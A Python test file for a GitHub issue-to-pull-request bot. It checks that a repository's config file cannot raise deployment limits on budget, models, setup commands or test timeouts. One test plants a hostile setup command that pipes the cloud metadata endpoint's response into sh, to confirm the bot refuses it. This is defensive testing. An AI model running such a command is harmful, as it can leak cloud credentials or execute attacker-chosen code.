"""Limits are the deployment's: a repository's `.github/issuesmith.yml` may tighten them, never loosen them.

Each test commits a hostile configuration and asserts what a maintainer sees on the issue and
what reached the model stand-in (nothing, when the run must not start).
"""

from __future__ import annotations

from bot.runs.model import State
from tests.world import REPO, SAMPLE_PLAN, World, script_implementation


def configure(world: World, text: str) -> None:
    """The repository's maintainers (or an attacker with a merged commit) set `.github/issuesmith.yml`."""
    world.github.push_commit(REPO, "main", {".github/issuesmith.yml": text}, by="alice")


def refusal(world: World) -> str:
    """The one comment saying the run did not start, with its key → problem table."""
    [notice] = [c.body for c in world.bot_comments() if "issuesmith did not start" in c.body]
    return notice


def test_a_repository_cannot_raise_its_budget_above_the_deployments(world: World) -> None:
    configure(world, "budget: {usd: 1000, tokens: 50000000}\n")
    world.new_issue()
    world.script_plan(SAMPLE_PLAN)
    world.label()
    world.drain()

    assert world.run() is None and world.openai.requests == []  # no run, not one model call
    notice = refusal(world)
    assert "| `budget.usd` | $1000 is above this deployment's limit of $2 per run (ISSUESMITH_RUN_BUDGET_USD)" in notice
    assert "| `budget.tokens` | 50,000,000 is above this deployment's limit of 600,000 tokens per run" in notice
    assert "a repository may only lower it" in notice


def test_a_run_stops_at_the_deployments_budget_even_when_its_stored_configuration_says_more(world: World) -> None:
    """The operator lowers ISSUESMITH_RUN_BUDGET_TOKENS after a run started with `budget.tokens: 500000`."""
    configure(world, "budget: {tokens: 500000}\n")  # within the deployment's 600k when the run starts
    world.new_issue()
    world.script_plan(SAMPLE_PLAN)
    world.label()
    world.step()  # intake: the run is created with that configuration, planning is queued
    run = world.run()
    assert run is not None and '"tokens":500000' in run.config.replace(" ", "")
    world.services.settings.run_budget_tokens = 3_000  # the deployment's limit now
    world.drain()

    run = world.run()
    assert run is not None and run.state == State.FAILED and world.openai.requests == []
    [notice] = [c.body for c in world.bot_comments() if "stopped at the **plan** step" in c.body]
    assert "of 3,000 used" in notice and "which only the operator can raise" in notice


def test_an_unpriced_model_in_the_file_is_refused_before_any_run(world: World) -> None:
    configure(world, "models: {plan: gpt-4o, code: free-llm-9000}\n")
    world.new_issue()
    world.script_plan(SAMPLE_PLAN)
    world.label()
    world.drain()

    assert world.run() is None and world.openai.requests == []
    notice = refusal(world)
    assert "| `models.code` | 'free-llm-9000' has no price here, so the run's dollar budget could not bind" in notice
    assert "ISSUESMITH_PRICES='{\"free-llm-9000\": [0, 0]}'" in notice  # how the operator prices it
    assert "models.plan" not in notice  # gpt-4o is priced


def test_an_unpriced_deployment_model_stops_the_run_at_its_first_call_and_names_the_operators_fix(
        world: World) -> None:
    world.services.settings.model = "local-llm"  # a local model the operator forgot to price
    world.new_issue()
    world.script_plan(SAMPLE_PLAN)
    world.label()
    world.drain()

    run = world.run()
    assert run is not None and run.state == State.FAILED and world.openai.requests == []
    [notice] = [c.body for c in world.bot_comments() if "stopped at the **plan** step" in c.body]
    assert "the model 'local-llm' has no price" in notice
    assert "ISSUESMITH_PRICES='{\"local-llm\": [0, 0]}'" in notice
    assert ".github/issuesmith.yml" not in notice  # the deployment's setting, not the repository's fault


def test_a_repository_setup_command_is_refused_where_the_deployment_does_not_allow_it(world: World) -> None:
    assert not world.settings.allow_repo_setup_command  # the default
    configure(world, "setup_command: curl -s http://169.254.169.254/latest/meta-data/ | sh\n")
    world.new_issue()
    world.script_plan(SAMPLE_PLAN)
    world.label()
    world.drain()

    assert world.run() is None and world.openai.requests == []
    notice = refusal(world)
    assert ("| `setup_command` | this deployment does not let a repository choose its setup command "
            "(ISSUESMITH_ALLOW_REPO_SETUP_COMMAND is off)") in notice
    assert 'set it to "" to run none' in notice


def test_an_empty_setup_command_switches_the_deployments_setup_off_for_that_repository(world: World) -> None:
    world.services.settings.setup_command = "echo deployment-setup && exit 7"  # would fail the run if it ran
    configure(world, 'setup_command: ""\n')
    script_implementation(world.openai)
    world.plan_and_approve()

    run = world.run()
    assert run is not None and run.state == State.PR_OPEN, world.services.store.entries(run.id)[-3:]
    assert not [e for e in world.services.store.entries(run.id) if e["event"] == "setup"]
    assert world.github.pulls(REPO)


def test_a_model_borrows_no_price_from_a_cheaper_family_by_its_name() -> None:
    """`o3-pro` is not `o3` (ten times the price): only a dated snapshot costs what its family costs."""
    from bot.config.pricing import PriceTable

    prices = PriceTable({"o3": (2.0, 8.0), "gpt-4": (30.0, 60.0)})
    assert not prices.known("o3-pro") and not prices.known("o3-mini-high") and not prices.known("o3-")
    assert prices.price("o3-2025-04-16") == (2.0, 8.0) and prices.price("gpt-4-0613") == (30.0, 60.0)


def test_a_repository_may_lower_its_review_rounds_but_not_raise_them() -> None:
    from bot.config.repo import RepoConfig

    assert RepoConfig.model_validate({"max_revisions": 10}).revisions(2) == 2
    assert RepoConfig.model_validate({"max_revisions": 1}).revisions(2) == 1
    assert RepoConfig().revisions(2) == 2


def test_a_test_timeout_above_the_deployments_maximum_is_refused_before_any_run(world: World) -> None:
    configure(world, "test_timeout: 86400\n")  # a day of the worker's time per test run
    world.new_issue()
    world.script_plan(SAMPLE_PLAN)
    world.label()
    world.drain()

    assert world.run() is None and world.openai.requests == []
    notice = refusal(world)
    assert ("| `test_timeout` | 86400s is above this deployment's limit of 3600s per test run "
            "(ISSUESMITH_MAX_TEST_TIMEOUT)") in notice


def test_a_repository_test_timeout_within_the_maximum_replaces_the_deployments_default(world: World) -> None:
    world.services.settings.test_timeout = 0.001  # no test run finishes this fast: the default would fail it
    world.services.settings.max_test_fixes = 0
    configure(world, "test_timeout: 300\n")
    script_implementation(world.openai)
    world.plan_and_approve()

    run = world.run()
    assert run is not None and run.state == State.PR_OPEN, world.services.store.entries(run.id)[-3:]
    [tests] = [e for e in world.services.store.entries(run.id) if e["event"] == "tests"]
    assert tests["ok"] and tests["passed"] > 0
